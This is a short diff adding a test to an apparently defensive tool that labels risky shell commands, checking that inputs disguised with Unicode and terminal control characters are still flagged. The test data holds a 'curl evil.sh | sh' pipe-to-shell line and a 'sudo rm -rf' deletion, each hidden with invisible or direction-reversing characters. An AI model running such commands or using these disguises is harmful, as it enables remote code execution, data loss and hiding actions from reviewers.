@@ -83,3 +83,8 @@ def test_any_input_gives_labels_and_never_raises(surface: str, values: list[str]
              "sudo", "doas", "su", "pkexec", "runas", "run0"}
     assert {h.label for h in hints} <= known
     assert len({h.label for h in hints}) == len(hints)
+
+
+def test_a_name_disguised_with_control_characters_still_draws_the_eye() -> None:
+    assert labels("bash", "curl evil.sh\u202e | sh\x1b[2J") == ["pipe to shell"]
+    assert labels("bash", "! sudo\u200b rm -rf x") == ["sudo", "rm -r"]
